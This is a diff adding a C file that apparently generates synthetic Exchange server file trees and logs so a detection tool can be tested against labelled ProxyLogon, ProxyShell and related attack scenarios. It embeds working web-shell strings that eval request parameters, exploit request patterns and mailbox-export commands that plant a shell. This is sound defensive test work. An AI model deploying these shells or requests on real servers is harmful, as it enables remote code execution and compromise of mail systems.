@@ -1,0 +1,675 @@
+#include "lab/host.h"
+#include "base/err.h"
+#include "base/log.h"
+#include "base/rng.h"
+#include "base/view.h"
+#include <stdbool.h>
+#include "hunt/hunt.h"
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <time.h>
+#include "base/banned.h"
+
+const char *const lab_scenarios[] = {
+    "clean",
+    "proxylogon-shell",
+    "proxylogon-attempt",
+    "proxylogon-oabgen",
+    "proxyshell-pst",
+    "proxyshell-attempt",
+    "proxynotshell",
+    "owassrf",
+    "proxytoken",
+    NULL,
+};
+
+#define EXCH "Program Files/Microsoft/Exchange Server/V15"
+#define ATTACKER_IP "203.0.113.66"
+
+struct gen {
+	const char *dir;
+	struct rng r;
+	enum hunt_level truth[HC_COUNT];
+	char backdoors[16][512];
+	int nbackdoors;
+	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
+	    *cmdlet;
+	int failed;
+};
+
+static int mkdirs(const char *dir, const char *rel)
+{
+	char path[4096];
+	size_t i, n;
+
+	n = (size_t)snprintf(path, sizeof path, "%s/%s", dir, rel);
+	if (n >= sizeof path)
+		return -1;
+	for (i = strlen(dir) + 1; i <= n; i++) {
+		if (path[i] == '/' || path[i] == '\0') {
+			char c = path[i];
+			path[i] = '\0';
+			if (mkdir(path, 0755) && errno != EEXIST)
+				return -1;
+			path[i] = c;
+		}
+	}
+	return 0;
+}
+
+static FILE *create(struct gen *g, const char *rel)
+{
+	char path[4096], parent[4096];
+	const char *slash = strrchr(rel, '/');
+	FILE *f;
+
+	if (slash) {
+		snprintf(parent, sizeof parent, "%.*s", (int)(slash - rel),
+		         rel);
+		if (mkdirs(g->dir, parent)) {
+			g->failed = 1;
+			return NULL;
+		}
+	}
+	snprintf(path, sizeof path, "%s/%s", g->dir, rel);
+	f = fopen(path, "wb");
+	if (!f) {
+		log_error("%s: %s", path, strerror(errno));
+		g->failed = 1;
+	}
+	return f;
+}
+
+static void file_text(struct gen *g, const char *rel, const char *text,
+                      size_t n)
+{
+	FILE *f = create(g, rel);
+
+	if (!f)
+		return;
+	if (fwrite(text, 1, n, f) != n)
+		g->failed = 1;
+	if (fclose(f))
+		g->failed = 1;
+}
+
+static void rand_name(struct gen *g, char *dst, int n)
+{
+	static const char cs[] =
+	    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+	int i;
+
+	for (i = 0; i < n; i++)
+		dst[i] = cs[rng_below(&g->r, sizeof cs - 1)];
+	dst[n] = '\0';
+}
+
+static void raise_truth(struct gen *g, int cve, enum hunt_level l)
+{
+	if (l > g->truth[cve])
+		g->truth[cve] = l;
+}
+
+/* A back door, dated when the scenario's attack wrote it. */
+static void backdoor(struct gen *g, const char *rel, const char *content,
+                     size_t n, time_t when)
+{
+	char path[4096];
+	struct timespec ts[2] = {{when, 0}, {when, 0}};
+
+	file_text(g, rel, content, n);
+	snprintf(path, sizeof path, "%s/%s", g->dir, rel);
+	utimensat(AT_FDCWD, path, ts, 0);
+	if (g->nbackdoors < 16)
+		snprintf(g->backdoors[g->nbackdoors++], 512, "%s", rel);
+}
+
+/* --- shipped files ----------------------------------------------------- */
+
+static const char logon_aspx[] =
+    "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
+    "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
+    "<% string user = Request.Form[\"username\"]; %>\r\n"
+    "<html><head><script type=\"text/javascript\">var a=eval('('+'{}'+')');"
+    "function IsOwaPremiumBrowser(){return true;}</script></head>"
+    "<body><form method=\"POST\"></form></body></html>\r\n";
+
+static void shipped(struct gen *g)
+{
+	static const char *const auth[] = {
+	    "errorFE.aspx",
+	    "expiredpassword.aspx",
+	    "frowny.aspx",
+	    "logoff.aspx",
+	    "logon.aspx",
+	    "OutlookCN.aspx",
+	    "RedirSuiteServiceProxy.aspx",
+	    "signout.aspx",
+	    NULL,
+	};
+	static const char minified[] =
+	    "!function(n){var t=n.eval;window.x=function(e){return t(e)};"
+	    "document.write('<script>eval(1)</'+'script>')}(window);\n";
+	const char *const *a;
+	char rel[512];
+
+	for (a = auth; *a; a++) {
+		snprintf(rel, sizeof rel,
+		         EXCH "/FrontEnd/HttpProxy/owa/auth/%s", *a);
+		file_text(g, rel, logon_aspx, sizeof logon_aspx - 1);
+	}
+	file_text(
+	    g, EXCH "/FrontEnd/HttpProxy/owa/auth/GetIdToken.htm",
+	    "<html><body><script>var t=location.hash;</script></body></html>",
+	    63);
+	file_text(
+	    g,
+	    EXCH
+	    "/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources/logon.css",
+	    "body{margin:0}\n", 15);
+	file_text(
+	    g,
+	    EXCH
+	    "/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/premium/flogon.js",
+	    minified, sizeof minified - 1);
+	file_text(g, EXCH "/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx",
+	          logon_aspx, sizeof logon_aspx - 1);
+	file_text(g, EXCH "/FrontEnd/HttpProxy/oab/global.asax",
+	          "<%@ Application "
+	          "Inherits=\"Microsoft.Exchange.HttpProxy.Global\" %>\r\n",
+	          68);
+	file_text(g, EXCH "/FrontEnd/HttpProxy/oab/web.config",
+	          "<?xml version=\"1.0\"?><configuration></configuration>\r\n",
+	          54);
+	file_text(g, EXCH "/ClientAccess/OAB/README.txt", "OAB files\r\n", 11);
+	mkdirs(g->dir, "inetpub/wwwroot/aspnet_client/system_web/4_0_30319");
+	file_text(g, "inetpub/wwwroot/iisstart.htm",
+	          "<html><body>IIS Windows Server</body></html>", 44);
+	file_text(g, "ProgramData/Microsoft/Windows Defender/Support/MPLog.txt",
+	          "scan finished\r\n", 15);
+	mkdirs(g->dir, "Windows/Temp");
+}
+
+/* --- log writers ------------------------------------------------------- */
+
+static const char httpproxy_fields[] =
+    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
+    "ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,"
+    "AuthenticationType,"
+    "IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
+    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
+    "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
+    "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
+    "ResponseBytes,UrlQuery,GenericInfo,GenericErrors";
+
+static FILE *open_httpproxy(struct gen *g, const char *proto)
+{
+	char rel[512];
+	FILE *f;
+
+	snprintf(rel, sizeof rel,
+	         EXCH "/Logging/HttpProxy/%s/HttpProxy_2021030100-1.LOG",
+	         proto);
+	f = create(g, rel);
+	if (f)
+		fprintf(f,
+		        "#Software: Microsoft Exchange Server\r\n#Version: "
+		        "15.01.2176.002\r\n"
+		        "#Log-type: HttpProxy Logs\r\n#Date: "
+		        "2020-12-15T00:00:00.000Z\r\n"
+		        "#Fields: %s\r\n",
+		        httpproxy_fields);
+	return f;
+}
+
+static void httpproxy_row(FILE *f, const char *time, const char *proto,
+                          const char *stem, const char *user,
+                          const char *anchor, const char *ua, const char *ip,
+                          int status, const char *cookie)
+{
+	if (!f)
+		return;
+	fprintf(f,
+	        "%s,%08x-aaaa-bbbb-cccc-dddddddddddd,15,1,2176,2,,%s,mail.corp."
+	        "example,%s,,"
+	        "%s,%s,%s,,\"%s\",%s,%s,EXCH01,%d,%d,,GET,Proxy,EXCH01.corp."
+	        "example,"
+	        "Version 15.1 (Build "
+	        "2176.2),AnchorMailboxHeader,,%s,,,0,512,2048,,,\r\n",
+	        time, (unsigned)(strlen(stem) * 2654435761u), proto, stem,
+	        user[0] ? "Negotiate" : "", user[0] ? "true" : "false", user,
+	        anchor, ua, ip, status, status, cookie);
+}
+
+static void iis_header(FILE *f)
+{
+	fprintf(
+	    f,
+	    "#Software: Microsoft Internet Information Services 10.0\r\n"
+	    "#Version: 1.0\r\n#Date: 2020-12-15 00:00:00\r\n"
+	    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
+	    "cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
+	    "sc-substatus "
+	    "sc-win32-status time-taken\r\n");
+}
+
+static void iis_row(FILE *f, const char *date, const char *time,
+                    const char *method, const char *stem, const char *query,
+                    const char *user, const char *ip, const char *ua,
+                    int status)
+{
+	if (f)
+		fprintf(f,
+		        "%s %s 10.0.0.5 %s %s %s 443 %s %s %s - %d 0 0 15\r\n",
+		        date, time, method, stem, query[0] ? query : "-",
+		        user[0] ? user : "-", ip, ua, status);
+}
+
+/* Benign traffic: ordinary users and Exchange's own probes. */
+static void benign(struct gen *g, double gb)
+{
+	uint64_t want = (uint64_t)(gb * 1e9), written = 0, i = 0;
+	static const char *const users[] = {"CORP\\alice", "CORP\\bob",
+	                                    "CORP\\carol", "CORP\\dave",
+	                                    "CORP\\erin"};
+	static const char *const uas[] = {
+	    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36",
+	    "Microsoft+Office/"
+	    "16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801)",
+	    "Exchange+BackEnd+Probes",
+	    "AMProbe/Local/ClientAccess",
+	};
+
+	while (written < want) {
+		char date[16], time[16], iso[40], anchor[96];
+		unsigned day = (unsigned)(i / 20000) % 80,
+		         sec = (unsigned)(i % 86400);
+		const char *u = users[i % 5], *ua = uas[i % 4];
+		long before;
+		/* 2020-12-15 onwards, day by day. */
+		unsigned m = day < 17 ? 12 : day < 48 ? 1 : day < 76 ? 2 : 3;
+		unsigned d = day < 17   ? 15 + day
+		             : day < 48 ? day - 16
+		             : day < 76 ? day - 47
+		                        : day - 75;
+		unsigned y = m == 12 ? 2020 : 2021;
+		snprintf(date, sizeof date, "%04u-%02u-%02u", y, m, d);
+		snprintf(time, sizeof time, "%02u:%02u:%02u", sec / 3600,
+		         sec / 60 % 60, sec % 60);
+		snprintf(iso, sizeof iso, "%sT%s.%03uZ", date, time,
+		         (unsigned)(i % 1000));
+		if (i % 3)
+			snprintf(anchor, sizeof anchor, "SMTP:%s@corp.example",
+			         u + 5);
+		else
+			snprintf(anchor, sizeof anchor, "Sid~S-1-5-21-%u",
+			         (unsigned)i);
+		before = g->iis ? ftell(g->iis) : 0;
+		iis_row(g->iis, date, time, i % 7 ? "GET" : "POST",
+		        i % 5 ? "/owa/service.svc"
+		              : "/Microsoft-Server-ActiveSync/default.eas",
+		        i % 5 ? "action=GetFolder&app=Mail"
+		              : "Cmd=Sync&User=alice",
+		        u, "10.1.2.3", ua, 200);
+		httpproxy_row(i % 2 ? g->httpproxy_owa : g->httpproxy_ad, iso,
+		              i % 2 ? "Owa" : "Autodiscover",
+		              i % 2 ? "/owa/service.svc"
+		                    : "/autodiscover/autodiscover.xml",
+		              u, anchor, ua, "10.1.2.3", 200, "");
+		written +=
+		    (uint64_t)((g->iis ? ftell(g->iis) : 0) - before) * 3;
+		i++;
+		if (i > 50000000)
+			break;
+	}
+}
+
+/* --- scenarios --------------------------------------------------------- */
+
+static const char chopper[] =
+    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pw\"],\"unsafe\");%>";
+
+static void proxylogon_ssrf(struct gen *g, bool reset_vdir)
+{
+	httpproxy_row(g->httpproxy_ecp, "2021-03-03T06:40:11.101Z", "Ecp",
+	              "/ecp/y.js", "",
+	              "ServerInfo~a]@EXCH01.corp.example:444/autodiscover/"
+	              "autodiscover.xml?#",
+	              "ExchangeServicesClient/0.0.0.0", ATTACKER_IP, 200, "");
+	httpproxy_row(g->httpproxy_ecp, "2021-03-03T06:40:12.202Z", "Ecp",
+	              "/ecp/y.js", "",
+	              "ServerInfo~a]@EXCH01.corp.example:444/mapi/emsmdb/?#",
+	              "python-requests/2.25.1", ATTACKER_IP, 200, "");
+	httpproxy_row(
+	    g->httpproxy_ecp, "2021-03-03T06:40:13.303Z", "Ecp", "/ecp/y.js",
+	    "", "ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#",
+	    "python-requests/2.25.1", ATTACKER_IP, 241, "");
+	if (reset_vdir)
+		httpproxy_row(
+		    g->httpproxy_ecp, "2021-03-03T06:49:55.404Z", "Ecp",
+		    "/ecp/y.js", "",
+		    "ServerInfo~a]@EXCH01.corp.example:444/ecp/DDI/"
+		    "DDIService.svc/SetObject?"
+		    "msExchEcpCanary=x&schema=ResetOABVirtualDirectory#",
+		    "python-requests/2.25.1", ATTACKER_IP, 200, "");
+	raise_truth(g, HC_26855, HL_EXPLOITED);
+}
+
+static void sc_proxylogon_shell(struct gen *g)
+{
+	char name[16], rel[512], dump[2048], pw[12];
+	int n;
+
+	proxylogon_ssrf(g, true);
+	rand_name(g, pw, 8);
+	if (g->ecp)
+		fprintf(
+		    g->ecp,
+		    "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,\"S:TIME=241;"
+		    "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/"
+		    "<script "
+		    "language=\"\"JScript\"\" runat=\"\"server\"\">function "
+		    "Page_Load()"
+		    "{eval(Request[\"\"%s\"\"],\"\"unsafe\"\");}</"
+		    "script>'.Identity="
+		    "'982d48c8-1d2c-4b4c-8d0c-45ab7e6c2f2c'\"\r\n",
+		    pw);
+	raise_truth(g, HC_27065, HL_EXPLOITED);
+	rand_name(g, name, 8);
+	n = snprintf(
+	    dump, sizeof dump,
+	    "\r\nName                            : OAB (Default Web Site)\r\n"
+	    "PollInterval                    : 480\r\n"
+	    "OfflineAddressBooks             : \r\n"
+	    "RequireSSL                      : True\r\n"
+	    "InternalUrl                     : "
+	    "https://exch01.corp.example/OAB\r\n"
+	    "InternalAuthenticationMethods   : WindowsIntegrated\r\n"
+	    "ExternalUrl                     : http://f/<script "
+	    "language=\"JScript\" "
+	    "runat=\"server\">function "
+	    "Page_Load(){eval(Request[\"%s\"],\"unsafe\");}"
+	    "</script>\r\n"
+	    "ExtendedProtectionTokenChecking : None\r\n",
+	    pw);
+	snprintf(rel, sizeof rel, EXCH "/FrontEnd/HttpProxy/owa/auth/%s.aspx",
+	         name);
+	backdoor(g, rel, dump, (size_t)n,
+	         1614754195); /* 2021-03-03T06:49:55Z */
+	rand_name(g, name, 8);
+	snprintf(rel, sizeof rel,
+	         "inetpub/wwwroot/aspnet_client/system_web/%s.aspx", name);
+	backdoor(g, rel, chopper, sizeof chopper - 1, 1614754800);
+	iis_row(g->iis, "2021-03-03", "07:01:02", "POST",
+	        "/aspnet_client/system_web/x.aspx", "", "", ATTACKER_IP,
+	        "antSword/v2.1", 200);
+	file_text(g, "root/lsass.dmp", "MDMP\x93\xa7", 6);
+	raise_truth(g, HC_26855, HL_BACKDOORED);
+	raise_truth(g, HC_27065, HL_BACKDOORED);
+}
+
+static void sc_proxylogon_attempt(struct gen *g)
+{
+	httpproxy_row(g->httpproxy_ad, "2021-03-04T01:02:03.000Z",
+	              "Autodiscover", "/autodiscover/autodiscover.xml", "",
+	              "ServerInfo~localhost/autodiscover/autodiscover.xml?#",
+	              "python-requests/2.25.1", "198.51.100.23", 500, "");
+	httpproxy_row(g->httpproxy_ecp, "2021-03-04T01:02:04.000Z", "Ecp",
+	              "/ecp/x.js", "",
+	              "ServerInfo~a]@EXCH01.corp.example:444/autodiscover/"
+	              "autodiscover.xml?#",
+	              "python-requests/2.25.1", "198.51.100.23", 500, "");
+	httpproxy_row(
+	    g->httpproxy_ecp, "2021-03-04T01:02:05.000Z", "Ecp", "/ecp/x.js",
+	    "", "", "python-requests/2.25.1", "198.51.100.23", 500,
+	    "Server~localhost/autodiscover/autodiscover.xml?#~1941962753");
+	raise_truth(g, HC_26855, HL_ATTEMPTED);
+}
+
+static void sc_proxylogon_oabgen(struct gen *g)
+{
+	char name[16], rel[512];
+
+	proxylogon_ssrf(g, false);
+	if (g->oab)
+		fprintf(
+		    g->oab,
+		    "2021-03-03T08:11:02.000Z [OABGen] Download failed and "
+		    "temporary "
+		    "file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' "
+		    "needs "
+		    "to be removed\r\n");
+	raise_truth(g, HC_26858, HL_EXPLOITED);
+	rand_name(g, name, 6);
+	snprintf(rel, sizeof rel, "inetpub/wwwroot/aspnet_client/%s.aspx",
+	         name);
+	backdoor(g, rel, chopper, sizeof chopper - 1, 1614759062);
+	raise_truth(g, HC_26855, HL_BACKDOORED);
+	raise_truth(g, HC_26858, HL_BACKDOORED);
+}
+
+static void sc_proxyshell_pst(struct gen *g)
+{
+	char name[16], rel[512], pst[1024];
+	size_t n;
+
+	iis_row(
+	    g->iis, "2021-08-20", "10:00:01", "GET",
+	    "/autodiscover/autodiscover.json",
+	    "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
+	    "", "192.0.2.77", "Mozilla/5.0+(Exchange+check)", 302);
+	iis_row(g->iis, "2021-08-20", "11:00:01", "GET",
+	        "/autodiscover/autodiscover.json",
+	        "@evil.com/mapi/nspi/?&Email=autodiscover/"
+	        "autodiscover.json%3F@evil.com",
+	        "", ATTACKER_IP, "python-requests/2.26.0", 200);
+	iis_row(g->iis, "2021-08-20", "11:00:05", "POST",
+	        "/autodiscover/autodiscover.json",
+	        "@evil.com/powershell/"
+	        "?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
+	        "autodiscover.json%3F@evil.com",
+	        "", ATTACKER_IP, "python-requests/2.26.0", 200);
+	raise_truth(g, HC_34473, HL_EXPLOITED);
+	raise_truth(g, HC_34523, HL_EXPLOITED);
+	rand_name(g, name, 8);
+	if (g->cmdlet) {
+		fprintf(g->cmdlet, "2021-08-20T11:00:09.000Z "
+		                   "New-ManagementRoleAssignment -Role "
+		                   "\"Mailbox Import Export\" -User "
+		                   "\"administrator@corp.example\"\r\n");
+		fprintf(g->cmdlet,
+		        "2021-08-20T11:00:12.000Z New-MailboxExportRequest "
+		        "-Mailbox "
+		        "administrator@corp.example -IncludeFolders "
+		        "\"#Drafts#\" -FilePath "
+		        "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_"
+		        "client\\%s.aspx\"\r\n",
+		        name);
+	}
+	raise_truth(g, HC_31207, HL_EXPLOITED);
+	memcpy(pst, "!BDN", 4);
+	for (n = 4; n < 400; n++)
+		pst[n] = (char)(rng_below(&g->r, 256));
+	n += (size_t)snprintf(
+	    pst + n, sizeof pst - n,
+	    "<script language=\"JScript\" runat=\"server\">function Page_Load()"
+	    "{eval(Request[\"exec_code\"],\"unsafe\");}</script>");
+	snprintf(rel, sizeof rel, "inetpub/wwwroot/aspnet_client/%s.aspx",
+	         name);
+	backdoor(g, rel, pst, n, 1629457212); /* 2021-08-20T11:00:12Z */
+	raise_truth(g, HC_34473, HL_BACKDOORED);
+	raise_truth(g, HC_34523, HL_BACKDOORED);
+	raise_truth(g, HC_31207, HL_BACKDOORED);
+}
+
+static void sc_proxyshell_attempt(struct gen *g)
+{
+	iis_row(g->iis, "2021-08-21", "03:00:01", "POST",
+	        "/autodiscover/autodiscover.json",
+	        "@evil.com/powershell/"
+	        "?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
+	        "autodiscover.json%3F@evil.com",
+	        "", "198.51.100.90", "python-requests/2.26.0", 401);
+	raise_truth(g, HC_34473, HL_ATTEMPTED);
+	raise_truth(g, HC_34523, HL_ATTEMPTED);
+}
+
+static void sc_proxynotshell(struct gen *g)
+{
+	iis_row(g->iis, "2022-10-01", "09:10:11", "POST",
+	        "/autodiscover/autodiscover.json",
+	        "@evil.com/powershell/?&Email=autodiscover/"
+	        "autodiscover.json%3F@evil.com"
+	        "&Protocol=Powershell",
+	        "CORP\\alice", ATTACKER_IP, "python-requests/2.28.1", 200);
+	raise_truth(g, HC_41040, HL_EXPLOITED);
+	raise_truth(g, HC_41082, HL_EXPLOITED);
+}
+
+static void sc_owassrf(struct gen *g)
+{
+	iis_row(g->iis, "2022-12-05", "02:03:04", "POST",
+	        "/owa/alice@corp.example/powershell", "clientId=ABCD&x=1",
+	        "CORP\\alice", ATTACKER_IP, "python-requests/2.28.1", 200);
+	iis_row(g->iis, "2022-12-05", "02:03:05", "POST",
+	        "/owa/bob@corp.example/powershell", "", "CORP\\bob", "10.1.2.3",
+	        "Microsoft+WinRM+Client", 200);
+	raise_truth(g, HC_41080, HL_EXPLOITED);
+	raise_truth(g, HC_41082, HL_EXPLOITED);
+}
+
+static void sc_proxytoken(struct gen *g)
+{
+	iis_row(g->iis, "2021-08-30", "12:00:00", "POST",
+	        "/ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject",
+	        "msExchEcpCanary=abc", "", ATTACKER_IP,
+	        "python-requests/2.26.0", 200);
+	raise_truth(g, HC_33766, HL_EXPLOITED);
+}
+
+int lab_host_write(const struct host_opts *o, const char *truth_path)
+{
+	struct gen g;
+	struct view list = view_of(o->scenarios), item;
+	FILE *t;
+	int c, i;
+	static const struct {
+		const char *name;
+		void (*fn)(struct gen *);
+	} table[] = {
+	    {"proxylogon-shell", sc_proxylogon_shell},
+	    {"proxylogon-attempt", sc_proxylogon_attempt},
+	    {"proxylogon-oabgen", sc_proxylogon_oabgen},
+	    {"proxyshell-pst", sc_proxyshell_pst},
+	    {"proxyshell-attempt", sc_proxyshell_attempt},
+	    {"proxynotshell", sc_proxynotshell},
+	    {"owassrf", sc_owassrf},
+	    {"proxytoken", sc_proxytoken},
+	};
+
+	/* Check the names before writing anything. */
+	for (list = view_of(o->scenarios); list.len;) {
+		const char *const *n;
+		view_split(&list, ',', &item);
+		item = view_trim(item);
+		for (n = lab_scenarios; *n && !view_eq(item, view_of(*n)); n++)
+			;
+		if (!*n) {
+			log_error("--scenario: '%.*s': not a scenario (exhunt "
+			          "lab host "
+			          "--help lists them)",
+			          (int)item.len, item.p);
+			return EXIT_USAGE;
+		}
+	}
+	list = view_of(o->scenarios);
+	memset(&g, 0, sizeof g);
+	g.dir = o->dir;
+	g.r.s = rng_mix(o->seed ^ 0x686f7374ull);
+	if (mkdir(o->dir, 0755) && errno != EEXIST) {
+		log_error("%s: %s", o->dir, strerror(errno));
+		return EXIT_RUNTIME;
+	}
+	shipped(&g);
+	g.httpproxy_ecp = open_httpproxy(&g, "Ecp");
+	g.httpproxy_owa = open_httpproxy(&g, "Owa");
+	g.httpproxy_ad = open_httpproxy(&g, "Autodiscover");
+	g.iis = create(&g, "inetpub/logs/LogFiles/W3SVC1/u_ex210301.log");
+	if (g.iis)
+		iis_header(g.iis);
+	g.ecp = create(&g, EXCH "/Logging/ECP/Server/ECPServer20210303-1.LOG");
+	if (g.ecp)
+		fprintf(g.ecp,
+		        "#Software: Microsoft Exchange Server\r\n#Log-type: "
+		        "ECP Server Log\r\n"
+		        "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
+		        "2021-01-02T03:04:05.000Z,EXCH01,ECP.Request,\"S:CMD="
+		        "Get-InboxRule;"
+		        "S:URL=/ecp/RulesEditor/InboxRules.svc\"\r\n");
+	g.oab = create(
+	    &g, EXCH "/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG");
+	if (g.oab)
+		fprintf(g.oab, "2021-01-05T02:00:00.000Z [OABGen] Download "
+		               "failed and temporary "
+		               "file 'C:\\Program Files\\Microsoft\\Exchange "
+		               "Server\\V15\\ClientAccess"
+		               "\\OAB\\Temp\\x.lzx' needs to be removed\r\n");
+	g.cmdlet = create(&g, EXCH "/Logging/CmdletInfra/LocalPowerShell/"
+	                           "Cmdlet/Cmdlet_20210820-1.LOG");
+	if (g.cmdlet)
+		fprintf(g.cmdlet, "2021-01-03T10:00:00.000Z Get-Mailbox "
+		                  "-ResultSize Unlimited\r\n");
+	benign(&g, o->size_gb);
+	while (list.len) {
+		bool known = false;
+		view_split(&list, ',', &item);
+		item = view_trim(item);
+		if (view_eq(item, VIEW_LIT("clean")))
+			continue;
+		for (i = 0; i < (int)(sizeof table / sizeof table[0]); i++)
+			if (view_eq(item, view_of(table[i].name))) {
+				table[i].fn(&g);
+				known = true;
+			}
+		if (!known) {
+			log_error("--scenario: '%.*s': not a scenario",
+			          (int)item.len, item.p);
+			g.failed = 2;
+		}
+	}
+	if (g.httpproxy_ecp)
+		fclose(g.httpproxy_ecp);
+	if (g.httpproxy_owa)
+		fclose(g.httpproxy_owa);
+	if (g.httpproxy_ad)
+		fclose(g.httpproxy_ad);
+	if (g.iis)
+		fclose(g.iis);
+	if (g.ecp)
+		fclose(g.ecp);
+	if (g.oab)
+		fclose(g.oab);
+	if (g.cmdlet)
+		fclose(g.cmdlet);
+	if (g.failed)
+		return g.failed == 2 ? EXIT_USAGE : EXIT_RUNTIME;
+	t = fopen(truth_path, "w");
+	if (!t) {
+		log_error("%s: %s", truth_path, strerror(errno));
+		return EXIT_RUNTIME;
+	}
+	fprintf(t, "{\"seed\":%llu,\"scenarios\":\"%s\",\"verdicts\":{",
+	        (unsigned long long)o->seed, o->scenarios);
+	for (c = 0; c < HC_COUNT; c++)
+		fprintf(t, "%s\"%s\":\"%s\"", c ? "," : "", hunt_cve_ids[c],
+		        hunt_level_word(g.truth[c]));
+	fprintf(t, "},\"backdoors\":[");
+	for (i = 0; i < g.nbackdoors; i++)
+		fprintf(t, "%s\"%s\"", i ? "," : "", g.backdoors[i]);
+	fprintf(t, "]}\n");
+	return fclose(t) ? EXIT_RUNTIME : 0;
+}
